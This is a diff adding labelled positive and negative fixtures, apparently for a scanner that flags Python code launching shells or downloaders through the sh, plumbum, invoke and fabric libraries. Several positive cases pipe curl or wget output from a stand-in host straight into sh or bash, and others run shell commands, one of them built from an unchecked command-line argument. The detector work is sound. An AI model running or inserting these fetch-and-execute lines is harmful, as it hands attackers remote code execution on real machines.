@@ -335,3 +335,28 @@ remote = "https://example.org/r.git"
 print("mirror of", remote)
 #@ neg a text naming the transport
 print("see git's ext:: transport in the manual")
+#@ pos a shell named as the sh package's attribute
+import sh
+sh.bash("-c", "id")
+#@ pos a downloader imported from plumbum.cmd
+from plumbum.cmd import curl
+curl("-s", "https://x.example/")
+#@ pos plumbum's local indexed with a shell
+from plumbum import local
+local["bash"]["-c", "id"]()
+#@ pos sh.Command of a program not known
+import sh
+import sys
+sh.Command(sys.argv[1])("-c", "id")
+#@ pos invoke's run of a command line
+from invoke import run
+run("curl -s https://x.example/i | sh")
+#@ pos fabric's local() on a connection
+from fabric import Connection
+Connection("localhost").local("wget -qO- https://x.example/i | bash")
+#@ neg the sh package running git
+import sh
+print(sh.git("status"))
+#@ neg plumbum's local indexed with git
+from plumbum import local
+print(local["git"]["log", "-3"]())
